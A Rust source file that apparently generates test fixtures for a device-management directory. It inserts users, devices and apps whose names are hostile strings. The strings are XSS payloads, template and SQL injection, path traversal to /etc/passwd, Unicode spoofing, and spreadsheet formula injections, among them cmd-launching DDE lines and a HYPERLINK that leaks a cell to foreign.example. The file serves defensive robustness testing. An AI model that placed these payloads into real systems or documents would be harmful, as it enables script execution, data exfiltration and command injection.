//! Names that are meant to do harm: to run as markup or script, to be taken for another device, to leave their cell or line, to
//! be a formula in a spreadsheet.

use std::borrow::Cow;

use time::{Duration, OffsetDateTime};

use crate::data::{App, Device, Directory, User};
use crate::generate::{DOMAIN, Stream, guid, stream};

/// The principal name of the person to whom the devices with hostile names belong.
pub const HOSTILE_USER: &str = "hostile01@contoso.example";

/// The texts, each the display name of a person, the name of a device and of an app, in this order. Whatever runs of them sets
/// `window.ran`, or asks for something at `foreign.example`.
#[must_use]
pub fn hostile_texts() -> Vec<String> {
    let tower = |letter: char| format!("{letter}{}", "\u{301}\u{323}\u{35c}\u{489}".repeat(40));
    vec![
        "<script>window.ran = 1</script>".to_owned(),
        "<img src=x onerror=\"window.ran = 1\">".to_owned(),
        "\"><svg onload=window.ran=1><a href=\"javascript:window.ran=1\">IPAD</a>".to_owned(),
        "</td></tr></table><iframe src=\"https://foreign.example/\"></iframe><style>*{display:none}</style>"
            .to_owned(),
        "{count} %s {{constructor.constructor('window.ran=1')()}} ${window.ran=1} <!-- --> &lt;&#x3c; ]]>"
            .to_owned(),
        "IPAD\u{202e}gpj.exe".to_owned(),
        "IPADOS\u{200b}-00012".to_owned(),
        "\u{2067}IPAD\u{2066}OS\u{2069}-\u{2068}00044\u{2069}\u{2069} \u{200e}\u{200f}\u{61c}\u{feff}"
            .to_owned(),
        "\u{2066}isolate that is never closed".to_owned(),
        "W".repeat(10_000),
        "a name of many words ".repeat(476),
        "=HYPERLINK(\"https://foreign.example/?leak=\"&A1,\"click\")".to_owned(),
        "+cmd|' /C calc'!A0".to_owned(),
        "-2+3+cmd|' /C calc'!A0".to_owned(),
        "@SUM(1+1)*cmd|' /C calc'!A0".to_owned(),
        "\t=1+1".to_owned(),
        "first line\r\nsecond line\u{2028}third\u{85}fourth".to_owned(),
        "nul\u{0}bell\u{7}escape\u{1b}[31mred".to_owned(),
        format!("{}{}{} tower", tower('Z'), tower('a'), tower('l')),
        // IPADOS-00012 in Cyrillic letters, but for the D and the number.
        "\u{406}\u{420}\u{410}D\u{41e}\u{405}-00012".to_owned(),
        "'; DROP TABLE item; --".to_owned(),
        "../../../../etc/passwd\\..\\CON".to_owned(),
        "a;b,c\"d\"\"e|f".to_owned(),
        "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467} \u{1f3f4}\u{e0067}\u{e0062}\u{e007f} \u{fdfd}\u{3164}"
            .to_owned(),
        " ".to_owned(),
    ]
}

/// Puts a person, a device and an app for each text between those that are there.
pub(crate) fn lay_among(directory: &mut Directory, seed: u64, now: OffsetDateTime) {
    let texts = hostile_texts();
    let users: Vec<User> = (1..).zip(&texts).map(|(number, text)| user(seed, number, text)).collect();
    let owner = users.first().cloned();
    let devices: Vec<Device> =
        (1..).zip(&texts).map(|(number, text)| device(seed, number, text, owner.as_ref(), now)).collect();
    let ids: Vec<String> = devices.iter().map(|device| device.id.clone()).collect();
    let apps: Vec<App> = (1..).zip(&texts).map(|(number, text)| app(number, text, &ids)).collect();
    mix_in(&mut directory.users, users);
    mix_in(&mut directory.devices, devices);
    mix_in(&mut directory.apps, apps);
}

/// One of the new after every third of the old.
fn mix_in<T>(old: &mut Vec<T>, new: Vec<T>) {
    let mut mixed = Vec::with_capacity(old.len() + new.len());
    let mut new = new.into_iter();
    for (place, thing) in std::mem::take(old).into_iter().enumerate() {
        mixed.push(thing);
        if place % 3 == 2 {
            mixed.extend(new.next());
        }
    }
    mixed.extend(new);
    *old = mixed;
}

fn user(seed: u64, number: u64, text: &str) -> User {
    let upn = format!("hostile{number:02}@{DOMAIN}");
    User {
        id: guid(&mut stream(seed, Stream::Hostile, number)),
        mail: Some(upn.clone()),
        upn,
        display_name: text.to_owned(),
        given_name: Some(text.to_owned()),
        surname: Some("Hostile".to_owned()),
        job_title: Some(text.to_owned()),
    }
}

fn device(seed: u64, number: u64, text: &str, owner: Option<&User>, now: OffsetDateTime) -> Device {
    let mut rng = stream(seed, Stream::Hostile, 1_000 + number);
    let own = || Some(text.to_owned());
    Device {
        id: guid(&mut rng),
        name: text.to_owned(),
        managed_name: text.to_owned(),
        // A serial number that is the text would be the same search as the name; every other one is plain.
        serial: if number.is_multiple_of(2) { own() } else { Some(format!("HX{number:06}")) },
        user_id: owner.map(|owner| owner.id.clone()),
        user_principal_name: owner.map(|owner| owner.upn.clone()),
        user_display_name: owner.map(|owner| owner.display_name.clone()),
        email_address: own(),
        operating_system: Cow::Borrowed("iOS"),
        os_version: Cow::Borrowed("26.1"),
        model: Cow::Owned(text.to_owned()),
        manufacturer: Cow::Owned(text.to_owned()),
        imei: own(),
        last_sync: Some(now - Duration::hours(1)),
        enrolled: now - Duration::days(30),
        owner: Cow::Borrowed("company"),
        compliance_state: Cow::Borrowed("compliant"),
        management_agent: Cow::Borrowed("mdm"),
        management_state: Cow::Borrowed("managed"),
        enrollment_type: Cow::Borrowed("appleBulkWithUser"),
        is_supervised: true,
        is_encrypted: true,
        azure_ad_device_id: Some(guid(&mut rng)),
        total_storage: 64_000_000_000,
        free_storage: 1_000_000_000,
        phone_number: own(),
        wifi_mac: own(),
        ethernet_mac: own(),
        category: Cow::Owned(text.to_owned()),
        notes: own(),
        jail_broken: Cow::Owned(text.to_owned()),
        patch_level: own(),
        grace_until: None,
        activation_lock_bypass_code: None,
        action_results: Vec::new(),
    }
}

fn app(number: u64, text: &str, devices: &[String]) -> App {
    App {
        id: format!("{number:064x}"),
        name: text.to_owned(),
        version: text.to_owned(),
        publisher: Some(text.to_owned()),
        platform: Cow::Borrowed("ios"),
        size: 0,
        device_count: devices.len(),
        device_ids: devices.to_vec(),
    }
}
